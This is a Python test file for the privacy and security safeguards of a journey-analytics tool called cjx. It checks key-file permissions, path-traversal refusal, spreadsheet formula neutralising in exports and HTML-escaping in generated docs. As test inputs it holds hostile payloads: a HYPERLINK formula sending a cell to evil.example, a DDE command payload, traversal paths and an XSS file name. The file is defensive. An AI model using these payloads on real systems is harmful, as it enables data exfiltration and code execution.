"""Privacy and security units: the key file, names that become paths, writes kept in their folder, export cells
that never run as formulas, GX Data Docs that never see an inbox file name."""

from __future__ import annotations

import csv
import os
import stat
import threading

import openpyxl
import pandas as pd
import pytest
import yaml
from typer.testing import CliRunner

from cjx import settings
from cjx.cli import app
from cjx.privacy import key as keymod
from cjx.privacy.cells import neutralise
from cjx.privacy.paths import UnsafePath, inside
from cjx.report.exports import csv_text, xlsx_bytes
from cjx.store.publish import published_dir
from tests.privacy_scan import csv_live_formulas, xlsx_formulas
from tests.test_ingest import JOURNEY

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2)",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]

# -- the key file (item 6) ---------------------------------------------------------------------------------------


@pytest.fixture
def no_env_key(monkeypatch):
    for var in ("CJX_PSEUDONYM_KEY", "CJX_PSEUDONYM_KEY_FILE", "CJX_PUBLISHED"):
        monkeypatch.delenv(var, raising=False)


def test_the_key_file_is_0600_from_its_first_byte_even_with_an_open_umask(tmp_path, no_env_key, monkeypatch):
    db = tmp_path / "data" / "cjx.duckdb"
    seen = []
    real_link = os.link

    def watching_link(src, dst):  # the moment the key gets its name: what mode had the file until then?
        seen.append((stat.S_IMODE(os.stat(src).st_mode), os.path.getsize(src)))
        return real_link(src, dst)

    monkeypatch.setattr(keymod.os, "link", watching_link)
    old = os.umask(0)
    try:
        key = settings.pseudonym_key(db)
    finally:
        os.umask(old)
    path = db.parent / ".cjx_pseudonym_key"
    assert stat.S_IMODE(path.stat().st_mode) == 0o600 and path.read_text() == key and len(key) == 64
    assert seen == [(0o600, 64)]  # complete and private before it had its name
    assert [p.name for p in path.parent.iterdir()] == [".cjx_pseudonym_key"]  # no temporary file left
    assert settings.pseudonym_key(db) == key  # read back, not replaced


def test_two_processes_creating_the_key_at_once_get_the_same_key(tmp_path):
    path = tmp_path / ".cjx_pseudonym_key"
    keys: list[str] = []
    threads = [threading.Thread(target=lambda: keys.append(keymod.create_key_file(path))) for _ in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    assert len(set(keys)) == 1 and path.read_text() == keys[0]


def test_the_key_never_sits_beside_the_published_copy(tmp_path, no_env_key, monkeypatch):
    db = tmp_path / "cjx.duckdb"
    assert keymod.published_dir_for(db) == published_dir(db)  # the rule is the one publish uses
    assert keymod.key_file_path(db).parent != published_dir(db)
    monkeypatch.setenv("CJX_PUBLISHED", str(tmp_path))  # published copy beside the database and its key
    assert keymod.published_dir_for(db) == published_dir(db)
    with pytest.raises(keymod.KeyFileError, match="folder of the published copy"):
        settings.pseudonym_key(db)
    assert not (tmp_path / ".cjx_pseudonym_key").exists()
    monkeypatch.setenv("CJX_PSEUDONYM_KEY_FILE", str(tmp_path / "secrets" / "cjx.key"))  # under it: refused too
    with pytest.raises(keymod.KeyFileError):
        settings.pseudonym_key(db)
    elsewhere = tmp_path.parent / f"{tmp_path.name}-secrets" / "cjx.key"
    monkeypatch.setenv("CJX_PSEUDONYM_KEY_FILE", str(elsewhere))
    assert len(settings.pseudonym_key(db)) == 64 and stat.S_IMODE(elsewhere.stat().st_mode) == 0o600


def test_a_key_file_others_can_read_is_refused(tmp_path, no_env_key):
    db = tmp_path / "cjx.duckdb"
    settings.pseudonym_key(db)
    (tmp_path / ".cjx_pseudonym_key").chmod(0o644)
    with pytest.raises(keymod.KeyFileError, match="readable by other users"):
        settings.pseudonym_key(db)


# -- names that become paths, writes that stay in their folder (item 5) ------------------------------------------


@pytest.mark.parametrize("bad", ["x/../../../y", "..", "a..b", "<img src=x>", "2026 Q3", "Q3\\..\\x", ""])
def test_cjx_check_refuses_a_revisit_id_that_is_not_a_plain_file_name(tmp_path, bad):
    journey = {**JOURNEY, "revisits": [{**JOURNEY["revisits"][0], "id": bad}]}
    (tmp_path / "journey.yml").write_text(yaml.safe_dump(journey, sort_keys=False))
    result = CliRunner().invoke(app, ["check", str(tmp_path / "journey.yml")])
    assert result.exit_code == 2
    line = result.output.strip()
    assert "\n" not in line and "revisits[0].id" in line


@pytest.mark.parametrize("good", ["2026-Q3", "v1.2_a", "R1"])
def test_plain_revisit_ids_pass(tmp_path, good):
    journey = {**JOURNEY, "revisits": [{**JOURNEY["revisits"][0], "id": good}]}
    (tmp_path / "journey.yml").write_text(yaml.safe_dump(journey, sort_keys=False))
    assert CliRunner().invoke(app, ["check", str(tmp_path / "journey.yml")]).exit_code == 0


@pytest.mark.parametrize("field", ["id"])
@pytest.mark.parametrize("where", ["sources", "touchpoints", "stages"])
def test_source_touchpoint_and_stage_ids_are_plain_names_too(tmp_path, where, field):
    journey = {**JOURNEY, where: [{**JOURNEY[where][0], field: "../x"}, *JOURNEY[where][1:]]}
    (tmp_path / "journey.yml").write_text(yaml.safe_dump(journey, sort_keys=False))
    result = CliRunner().invoke(app, ["check", str(tmp_path / "journey.yml")])
    assert result.exit_code == 2 and f"{where}[0].{field}" in result.output


def test_a_write_is_confirmed_inside_its_folder(tmp_path):
    reports, outside = tmp_path / "reports", tmp_path / "outside"
    reports.mkdir()
    outside.mkdir()
    assert inside(reports, "scorecard_R1/owners/web.html") == reports / "scorecard_R1/owners/web.html"
    with pytest.raises(UnsafePath, match="outside its folder"):
        inside(reports, "scorecard_x/../../../y.html")
    with pytest.raises(UnsafePath):
        inside(reports, "/etc/passwd")
    (reports / "scorecard_R1").symlink_to(outside)  # a link planted in the reports folder
    with pytest.raises(UnsafePath):
        inside(reports, "scorecard_R1/exports/priority.csv")


def test_the_pipeline_writes_no_report_through_a_link_out_of_the_reports_folder(tmp_path):
    from cjx.pipeline import open_workspace, run

    (tmp_path / "in").mkdir()
    (tmp_path / "journey.yml").write_text(yaml.safe_dump(JOURNEY, sort_keys=False))
    (tmp_path / "in" / "deliveries.csv").write_text(
        "id,email,at,delay_minutes\nD1,a@example.dk,2026-01-04T10:00:00Z,3\n"
    )
    (tmp_path / "in" / "rel_1.csv").write_text(_tiny_survey())
    reports, outside = tmp_path / "reports", tmp_path / "outside"
    reports.mkdir()
    outside.mkdir()
    (reports / "scorecard_R1").symlink_to(outside)
    with pytest.raises(UnsafePath):
        run(open_workspace(tmp_path / "journey.yml", tmp_path / "cjx.duckdb", reports))
    assert list(outside.rglob("*")) == []


def _tiny_survey() -> str:
    from tests.test_ingest import QUALTRICS_HEADER, QUALTRICS_ROWS

    return QUALTRICS_HEADER + QUALTRICS_ROWS


# -- export cells (item 4) ---------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_run_is_prefixed_with_a_quote(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Parcel delivery", "Kundeservice", "", "'=already", "a=b", -2.5, 3, None])
def test_other_cells_are_left_as_they_are(value):
    assert neutralise(value) == value


def _hostile_tables() -> dict[str, pd.DataFrame]:
    frame = pd.DataFrame(
        {
            "touchpoint_name": HOSTILE,
            "owner": ["Web"] * len(HOSTILE),
            "delta": [-1.5] * len(HOSTILE),
            "file_name": [f"{v}.csv" for v in HOSTILE],
        }
    )
    return {"priority": frame, "data_quality": frame[["file_name", "delta"]]}


def test_csv_exports_hold_no_live_formula_and_keep_the_text(tmp_path):
    tables = _hostile_tables()
    path = tmp_path / "priority.csv"
    path.write_text(csv_text(tables["priority"]), encoding="utf-8")
    assert csv_live_formulas(path) == []
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["touchpoint_name"] for r in rows] == ["'" + v for v in HOSTILE]
    assert {r["delta"] for r in rows} == {"-1.5"}  # numbers are numbers


def test_the_workbook_holds_no_formula_from_data(tmp_path):
    path = tmp_path / "x.xlsx"
    path.write_bytes(xlsx_bytes(_hostile_tables()))
    assert xlsx_formulas(path) == []
    book = openpyxl.load_workbook(path)
    cells = [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [c.value for c in book["priority"]["A"][1:]]
    assert names == ["'" + v.replace("\r", "\n") for v in HOSTILE]  # XML reads a CR back as a line feed
    assert {c.value for c in book["priority"]["C"][1:]} == {-1.5}


# -- GX Data Docs (item 4) ---------------------------------------------------------------------------------------


def test_data_docs_never_see_the_inbox_file_name(tmp_path):
    from cjx.ingest.gate import BatchGate
    from cjx.store import connect
    from tests.test_gate import SOURCE, stage

    con = connect(":memory:")
    stage(con, 30, bad_timestamps=25)
    gate = BatchGate(tmp_path / "docs")
    evil = '<img src=x onerror="alert(1)">/../../escape.csv'
    outcome = gate.validate(con, SOURCE, evil, "0123456789abcdef", max_failing_share=0.5)
    assert not outcome.success
    assert gate.build_docs() is not None
    written = [p for p in tmp_path.rglob("*") if p.is_file()]
    assert written and all((tmp_path / "docs") in p.parents for p in written)
    for p in written:
        text = p.read_text(encoding="utf-8", errors="replace")
        assert "alert(1)" not in text and "escape.csv" not in text, p
    assert any("pulse-0123456789abcdef" in str(p) for p in written)  # the run is named by ids
    con.close()
